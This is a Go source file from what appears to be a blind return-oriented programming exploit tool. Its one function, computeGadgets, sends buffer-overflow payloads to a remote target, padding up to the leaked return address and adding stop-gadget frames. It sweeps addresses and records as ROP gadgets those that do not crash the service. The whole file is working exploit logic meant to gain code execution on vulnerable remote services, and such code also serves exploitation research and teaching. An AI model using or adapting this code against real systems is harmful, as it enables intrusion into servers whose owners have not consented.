package session

import (
	"github.com/voidspace-sec/brop/internal/cluster"
	"github.com/voidspace-sec/brop/internal/oracle"
)

// computeGadgets linearly sweeps addresses above the leaked return
// address masked down to a 64 KiB boundary (low 16 bits cleared),
// looking for any that
// doesn't crash when called with 10 trailing stop-gadget frames behind
// it: a clean return (NoCrash) or a dead loop (Infinite) both mean the
// address held executable code, since raw data or an unmapped page
// would fault immediately (C8).
func (s *Session) computeGadgets() (cluster.Gadgets, bool) {
	stopGadget, ok := s.GetStopGadget()
	if !ok {
		return nil, false
	}
	overflow, ok := s.GetOverflowLength()
	if !ok {
		return nil, false
	}
	base, ok := s.payloadTillReturnAddress(overflow)
	if !ok {
		return nil, false
	}
	retAddr, ok := s.GetPossibleReturnAddress()
	if !ok {
		return nil, false
	}
	masked := retAddr.And(0xffff_ffff_ffff_0000)

	var gadgets cluster.Gadgets
	for far := uint64(1); far <= MaxGadgetSearchSize; far++ {
		addr := masked.Add(far)
		send := cluster.Append(append([]byte(nil), base...), cluster.FrameCluster(addr))
		for i := 0; i < 10; i++ {
			send = cluster.Append(send, cluster.FrameCluster(stopGadget.Frame()))
		}

		rc, _, probeOK := oracle.Probe(s.transport, send)
		if !probeOK {
			return nil, false
		}
		if rc == oracle.NoCrash || rc == oracle.Infinite {
			gadgets = append(gadgets, cluster.GadgetFromFrame(addr))
		}
	}

	return gadgets, true
}
